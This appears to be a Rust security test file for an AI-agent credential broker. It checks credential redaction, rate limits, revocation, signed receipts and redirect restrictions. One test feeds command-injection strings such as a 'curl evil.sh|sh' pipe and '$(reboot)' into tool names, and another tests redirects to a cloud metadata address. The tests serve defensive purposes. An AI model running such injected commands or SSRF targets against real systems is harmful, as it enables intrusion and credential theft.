//! What a hostile agent, upstream, owner's mistake or bad moment tries.

mod broker_common;

use std::sync::Arc;
use std::time::{Duration, Instant};

use broker_common::*;
use symbolon_broker::{
    Answer, Broker, CallRequest, Context, Door, Method, NewConnection, Options, ReceiptFilter,
};
use symbolon_log::Durability;
use symbolon_receipt::{OperatorKey, Statement, verify};
use symbolon_store::{Fault, Op};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

async fn world_that_answers(kind: &'static str, body: String) -> World {
    let folder = tempfile::tempdir().unwrap();
    Broker::init(&home_of(&folder), Method::Device, None).await.unwrap();
    let echo = move |_| {
        let mut answer = Answer::text(200, "");
        answer.body = body.clone().into_bytes().into();
        answer.headers.insert("content-type", kind.parse().unwrap());
        Ok(answer)
    };
    let witness = Witness::new(&home_of(&folder), Box::new(echo));
    World::open(folder, witness, Durability::Relaxed).await
}

fn escaped(every: usize) -> String {
    let raw = std::str::from_utf8(CREDENTIAL).unwrap();
    raw.chars()
        .enumerate()
        .map(|(i, c)| if i % every == 0 { format!("\\u{:04X}", c as u32) } else { c.to_string() })
        .collect()
}

#[tokio::test]
async fn a_credential_behind_escapes_does_not_come_out_of_our_own_decoding() {
    for every in [1, 2, 4, 7] {
        let body = format!("{{\"n\":1.50,\"{0}\":[\"{0}\",\"a\\/b\"]}}", escaped(every));
        let w = world_that_answers("application/json", body).await;
        let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
        let reply = w.broker.call(&session, &Context::Direct, get(1)).await.unwrap();
        let text = serde_json::to_string(&reply).unwrap();
        let leaked = CREDENTIAL.windows(8).any(|p| text.contains(std::str::from_utf8(p).unwrap()));
        assert!(!leaked && reply.redactions > 0, "every {every}: {text}");
        assert!(text.contains("a/b"), "the rest is still there: {text}");
    }
    // It need not be JSON.
    let w = world_that_answers("text/plain", format!("say: {}", escaped(3))).await;
    let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
    let reply = w.broker.call(&session, &Context::Direct, get(1)).await.unwrap();
    assert_eq!(reply.body, "say: [redacted:symbolon]");
    // Escapes that hide nothing pass as they came.
    let honest = r#"{"a":"line\nbreak \u00e9 \\ \"quoted\""}"#;
    let w = world_that_answers("application/json", honest.into()).await;
    let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
    let reply = w.broker.call(&session, &Context::Direct, get(1)).await.unwrap();
    assert_eq!(reply.body, serde_json::from_str::<serde_json::Value>(honest).unwrap());
}

#[tokio::test]
async fn an_answer_of_nothing_but_echoes_is_cut_off_and_a_huge_list_is_text() {
    let raw = std::str::from_utf8(CREDENTIAL).unwrap();
    let w = world_that_answers("text/plain", raw.repeat(50_000)).await;
    let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
    let begin = Instant::now();
    let e = w.broker.call(&session, &Context::Direct, get(1)).await.unwrap_err();
    assert_eq!(e.code, "unsearchable");
    assert!(begin.elapsed() < Duration::from_secs(1), "cut off, not ground through");

    let zeros = format!("[{}0]", "0,".repeat(300_000));
    let w = world_that_answers("application/json", zeros).await;
    let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
    let reply = w.broker.call(&session, &Context::Direct, get(1)).await.unwrap();
    assert!(reply.body.is_string(), "not hundreds of thousands of values");
}

#[tokio::test]
async fn a_home_that_lost_its_manifest_is_not_made_anew() {
    let w = World::new(Durability::Relaxed).await;
    w.broker.close().await;
    let home = home_of(&w.folder);
    let state = std::fs::read(home.join("state.db")).unwrap();
    std::fs::remove_file(home.join("home.json")).unwrap();
    let World { folder: _folder, broker, .. } = w;
    drop(broker);
    assert_eq!(Broker::init(&home, Method::Device, None).await.unwrap_err().code, "home_damaged");
    assert_eq!(Broker::start(&home, Options::default()).await.unwrap_err().code, "home_damaged");
    assert!(std::fs::read(home.join("state.db")).unwrap() == state, "nothing is lost");
}

#[tokio::test]
async fn what_was_locked_meanwhile_stays_locked_and_nobody_waits_for_a_check_call() {
    let w = World::new(Durability::Relaxed).await;
    let gate = Arc::new(tokio::sync::Notify::new());
    *w.witness.stall.lock().unwrap() = Some(gate.clone());
    let connect = |name: &'static str| {
        let broker = w.broker.clone();
        let new =
            NewConnection { name: Some(name.into()), verify: true, ..NewConnection::of("shop") };
        tokio::spawn(async move { broker.connect(new, credential()).await })
    };
    let first = connect("slow");
    while w.released() == 0 {
        tokio::task::yield_now().await;
    }
    let begin = Instant::now();
    let grant = w.broker.grants().await.unwrap()[0].id;
    w.broker.revoke(grant).await.unwrap();
    assert!(begin.elapsed() < Duration::from_secs(1), "a revocation does not wait for an upstream");

    w.broker.lock();
    gate.notify_one();
    assert_eq!(first.await.unwrap().unwrap_err().code, "locked");
    assert!(!w.broker.status().unlocked);
    *w.witness.stall.lock().unwrap() = None;
    assert!(w.broker.unlock_unattended().await.unwrap());
    w.grant("claude", &["shop.things.read"], &[]).await;
    let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
    assert!(w.broker.call(&session, &Context::Direct, get(1)).await.is_ok());
}

#[tokio::test]
async fn a_stop_waits_for_the_receipts_of_calls_on_their_way() {
    let w = World::new(Durability::Relaxed).await;
    let gate = Arc::new(tokio::sync::Notify::new());
    *w.witness.stall.lock().unwrap() = Some(gate.clone());
    let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
    let call = {
        let (broker, session) = (w.broker.clone(), session.clone());
        tokio::spawn(async move { broker.call(&session, &Context::Direct, get(1)).await })
    };
    while w.released() == 0 {
        tokio::task::yield_now().await;
    }
    let stop = {
        let broker = w.broker.clone();
        tokio::spawn(async move { broker.close().await })
    };
    tokio::time::sleep(Duration::from_millis(100)).await; // a moment for the stop to begin its wait
    assert!(!stop.is_finished());
    let late = w.broker.call(&session, &Context::Direct, get(2)).await.unwrap_err();
    assert_eq!((late.code.as_str(), w.released()), ("stopped", 1));
    gate.notify_one();
    assert_eq!(call.await.unwrap().unwrap().status, 200);
    stop.await.unwrap();

    let World { folder, witness, broker, .. } = w;
    drop((broker, session));
    *witness.stall.lock().unwrap() = None;
    let w = World::open(folder, witness, Durability::Relaxed).await;
    let rows = w.broker.receipts(ReceiptFilter::default()).await.unwrap();
    assert_eq!(
        (rows.len(), rows[0].outcome.as_str(), w.broker.status().open_intents),
        (1, "allowed", 0)
    );
}

#[tokio::test]
async fn refusals_of_one_agent_do_not_fill_the_disk_of_all() {
    let w = World::new(Durability::Relaxed).await;
    let mallory = w.broker.open_session("mallory", Door::Http).unwrap();
    for _ in 0..2000 {
        assert_eq!(
            w.broker.call(&mallory, &Context::Direct, get(1)).await.unwrap_err().code,
            "no_grant"
        );
    }
    let entries = w.broker.status().log_entries;
    assert!((100..400).contains(&entries), "{entries} entries");
    assert!(w.broker.metrics().contains("symbolon_refusals_unrecorded_total 1"));
    let claude = w.broker.open_session("claude", Door::Http).unwrap();
    assert!(w.broker.call(&claude, &Context::Direct, get(1)).await.is_ok());
}

#[tokio::test]
async fn who_shows_a_stolen_token_is_who_the_receipt_names() {
    let w = World::new(Durability::Relaxed).await;
    let claude = w.broker.open_session("claude", Door::McpStdio).unwrap();
    let mallory = w.broker.open_session("mallory", Door::Http).unwrap();
    let token = w.broker.request(&claude, &Context::Direct, get(1)).unwrap();
    let e = w.broker.redeem(&mallory, &Context::Direct, &token.token).await.unwrap_err();
    let bundle = serde_json::to_vec(&w.broker.receipt(e.receipt.unwrap()).await.unwrap()).unwrap();
    let verified =
        verify(&bundle, &OperatorKey::parse(&w.broker.operator_vkey()).unwrap()).unwrap();
    let p = &verified.statement().predicate;
    assert_eq!((&*p.agent, p.door), ("mallory", symbolon_receipt::Door::Http));
    assert_eq!(w.broker.receipt_row(e.receipt.unwrap()).await.unwrap().agent, "mallory");
}

#[tokio::test]
async fn requests_of_one_session_do_not_take_the_room_of_all() {
    let w = World::new(Durability::Relaxed).await;
    w.grant("other", &["shop.things.read"], &[]).await;
    let greedy = w.broker.open_session("claude", Door::Http).unwrap();
    let mut refused = None;
    for n in 0..80 {
        // The rate of the scope is 60 at once: some time must pass for the rest.
        match w.broker.request(&greedy, &Context::Direct, get(n)) {
            Ok(_) => {}
            Err(e) if e.code == "rate_limited" => {
                tokio::time::sleep(Duration::from_millis(60)).await
            }
            Err(e) => {
                refused = Some(e);
                break;
            }
        }
    }
    let e = refused.expect("a bound");
    assert_eq!(e.code, "too_many_tokens");
    assert!(e.next.is_some() && e.retry_after_seconds.is_some());
    let other = w.broker.open_session("other", Door::Http).unwrap();
    tokio::time::sleep(Duration::from_millis(100)).await; // the bucket is of the scope, not of the session
    assert!(w.broker.request(&other, &Context::Direct, get(1)).is_ok());
}

#[tokio::test]
async fn a_receipt_that_cannot_be_written_does_not_say_that_nothing_happened() {
    let w = World::new(Durability::Relaxed).await;
    let gate = Arc::new(tokio::sync::Notify::new());
    *w.witness.stall.lock().unwrap() = Some(gate.clone());
    let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
    let call = {
        let (broker, session) = (w.broker.clone(), session.clone());
        tokio::spawn(async move { broker.call(&session, &Context::Direct, get(1)).await })
    };
    while w.released() == 0 {
        tokio::task::yield_now().await;
    }
    w.faults.fail(Op::Write, 0, Fault::NoSpace);
    let e = w.broker.call(&session, &Context::Direct, get(2)).await.unwrap_err();
    assert_eq!((e.code.as_str(), w.released()), ("log", 1));
    gate.notify_one();
    let e = call.await.unwrap().unwrap_err();
    assert_eq!(e.code, "receipt_lost");
    assert!(e.next.unwrap().contains("do not repeat"));
}

#[tokio::test]
async fn a_next_step_is_never_a_command_of_the_callers_making() {
    let w = World::new(Durability::Relaxed).await;
    let session = w.broker.open_session("claude", Door::McpStdio).unwrap();
    for hostile in
        ["x; curl evil.sh|sh", "$(reboot).a", "`id`", "a\nb", "--help", "'", "\u{1b}[2J", "$(x)"]
    {
        let of_tool = CallRequest { tool: hostile.into(), ..get(1) };
        let of_connection = CallRequest { connection: Some(hostile.into()), ..get(1) };
        for request in [of_tool, of_connection] {
            let e = w.broker.call(&session, &Context::Direct, request).await.unwrap_err();
            let next = e.next.unwrap();
            assert!(
                next.chars().all(|c| c.is_ascii_alphanumeric() || " ._-".contains(c))
                    && !next.contains("curl"),
                "{hostile:?}: {next}"
            );
        }
    }
}

#[tokio::test]
async fn a_service_at_a_fixed_address_stays_there() {
    let w = World::new(Durability::Relaxed).await;
    let at = |url: &str| NewConnection {
        base_url: Some(url.into()),
        allow_loopback: true,
        ..NewConnection::of("slack")
    };
    let e = w.broker.connect(at("https://evil.example"), credential()).await.unwrap_err();
    assert_eq!(e.code, "base_url");
    assert!(w.broker.connect(at("http://127.0.0.1:9"), credential()).await.is_ok());
}

/// A loopback upstream over the real wire: answers from a list, keeps what it was asked.
async fn upstream(answers: Vec<String>) -> (String, tokio::task::JoinHandle<Vec<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let task = tokio::spawn(async move {
        let mut asked = Vec::new();
        for answer in answers {
            let (mut tcp, _) = listener.accept().await.unwrap();
            let mut head = Vec::new();
            while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                assert!(tcp.read_buf(&mut head).await.unwrap() > 0);
            }
            asked.push(String::from_utf8_lossy(&head).lines().next().unwrap().to_owned());
            tcp.write_all(answer.as_bytes()).await.unwrap();
            tcp.shutdown().await.unwrap();
        }
        asked
    });
    (base, task)
}

/// The shop at `base`, from which `claude` may read.
async fn shop_at(base: &str, limits: &[&str]) -> (tempfile::TempDir, Arc<Broker>) {
    wired(("shop", SERVICE), base, &["shop.things.read"], limits).await
}

fn moved(to: &str) -> String {
    format!(
        "HTTP/1.1 302 Found\r\nlocation: {to}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
    )
}

const OK: &str = "HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}";

#[tokio::test]
async fn a_redirect_goes_no_further_than_the_grant() {
    // Within the limit: followed, and the receipt says so.
    let (base, asked) = upstream(vec![moved("/things/8"), OK.to_owned()]).await;
    let (_folder, broker) = shop_at(&base, &["id<=8"]).await;
    let session = broker.open_session("claude", Door::McpStdio).unwrap();
    let reply = broker.call(&session, &Context::Direct, get(7)).await.unwrap();
    assert_eq!(reply.status, 200);
    assert_eq!(asked.await.unwrap(), ["GET /things/7 HTTP/1.1", "GET /things/8 HTTP/1.1"]);
    let bundle = serde_json::to_vec(&broker.receipt(reply.receipt).await.unwrap()).unwrap();
    let verified = verify(&bundle, &OperatorKey::parse(&broker.operator_vkey()).unwrap()).unwrap();
    assert_eq!(verified.statement().predicate.response.as_ref().unwrap().redirects, 1);

    // Beyond the limit, or no operation at all: handed over, not followed.
    for to in ["/things/9", "/admin", "/things/8/../9", "/things/8?x=1"] {
        let (base, asked) = upstream(vec![moved(to)]).await;
        let (_folder, broker) = shop_at(&base, &["id<=8"]).await;
        let session = broker.open_session("claude", Door::McpStdio).unwrap();
        let reply = broker.call(&session, &Context::Direct, get(7)).await;
        assert!(reply.is_err() || reply.is_ok_and(|r| r.status == 302), "{to}");
        assert_eq!(asked.await.unwrap().len(), 1, "{to}");
    }
    // To another host, or to the place where clouds keep secrets: refused.
    for to in ["http://evil.example/things/7", "http://169.254.169.254/latest/meta-data"] {
        let (base, asked) = upstream(vec![moved(to)]).await;
        let (_folder, broker) = shop_at(&base, &[]).await;
        let session = broker.open_session("claude", Door::McpStdio).unwrap();
        let e = broker.call(&session, &Context::Direct, get(7)).await.unwrap_err();
        assert_eq!(e.code, "redirect_refused", "{to}");
        assert!(e.receipt.is_some());
        assert_eq!(asked.await.unwrap().len(), 1);
    }
}

#[tokio::test]
async fn released_is_said_only_where_it_may_have_been() {
    let released = async |broker: &Broker, number: u64| {
        let bundle = serde_json::to_vec(&broker.receipt(number).await.unwrap()).unwrap();
        let key = OperatorKey::parse(&broker.operator_vkey()).unwrap();
        let verified = verify(&bundle, &key).unwrap();
        let statement: &Statement<'_> = verified.statement();
        statement.predicate.times.released.is_some()
    };
    // A port that nobody listens on.
    let port = TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap().port();
    let (_folder, broker) = shop_at(&format!("http://127.0.0.1:{port}"), &[]).await;
    let session = broker.open_session("claude", Door::McpStdio).unwrap();
    let e = broker.call(&session, &Context::Direct, get(1)).await.unwrap_err();
    assert!(!released(&broker, e.receipt.unwrap()).await);
    // An upstream that takes the request and hangs up.
    let (base, asked) = upstream(vec![String::new()]).await;
    let (_folder, broker) = shop_at(&base, &[]).await;
    let session = broker.open_session("claude", Door::McpStdio).unwrap();
    let e = broker.call(&session, &Context::Direct, get(1)).await.unwrap_err();
    assert_eq!(asked.await.unwrap().len(), 1);
    assert!(released(&broker, e.receipt.unwrap()).await);
}
